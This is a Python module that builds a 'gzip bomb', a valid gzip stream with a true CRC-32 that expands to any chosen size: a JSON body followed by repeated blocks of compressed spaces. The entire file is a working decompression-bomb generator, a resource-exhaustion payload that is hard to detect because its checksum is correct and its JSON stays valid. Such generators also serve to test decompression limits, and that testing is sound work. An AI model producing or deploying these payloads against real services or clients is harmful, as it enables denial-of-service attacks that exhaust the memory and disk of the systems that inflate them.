"""A gzip bomb that is made at once, whatever it expands to: a valid stream with a true checksum."""

from __future__ import annotations

import struct
import zlib
from functools import cache
from typing import Final

_HEADER: Final = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
_BLOCK: Final = 1 << 20
_BITS: Final = 32


def gzip_with_spaces(body: bytes, size: int) -> bytes:
    """The body with spaces after it, as gzip; JSON stays the JSON that it was.

    Args:
        body: What comes first.
        size: Bytes that it expands to; at least the body is there.
    """
    blocks, rest = divmod(max(0, size - len(body)), _BLOCK)
    spaces = blocks * _BLOCK + rest
    trailer = struct.pack("<II", _crc_with_spaces(zlib.crc32(body), spaces), (len(body) + spaces) % (1 << _BITS))
    first = _deflate(body, zlib.Z_FULL_FLUSH)
    return _HEADER + first + _block() * blocks + _deflate(b" " * rest, zlib.Z_FINISH) + trailer


@cache
def _block() -> bytes:
    return _deflate(b" " * _BLOCK, zlib.Z_FULL_FLUSH)


def _deflate(data: bytes, flush: int) -> bytes:
    """A piece of a raw stream that refers to nothing before it, so that it can stand anywhere and repeat."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush(flush)


def _crc_with_spaces(crc: int, count: int) -> int:
    """The CRC-32 after `count` more spaces.

    A byte changes a CRC by an affine map over bits: a matrix, kept as the images of the single bits, and a constant.
    Maps compose, so the map of twice as many bytes is one composition away.
    """
    constant = zlib.crc32(b" ", 0)
    columns = [zlib.crc32(b" ", 1 << bit) ^ constant for bit in range(_BITS)]
    while count:
        if count & 1:
            crc = _times(columns, crc) ^ constant
        constant ^= _times(columns, constant)
        columns = [_times(columns, column) for column in columns]
        count >>= 1
    return crc


def _times(columns: list[int], bits: int) -> int:
    product = 0
    for bit, column in enumerate(columns):
        if bits >> bit & 1:
            product ^= column
    return product
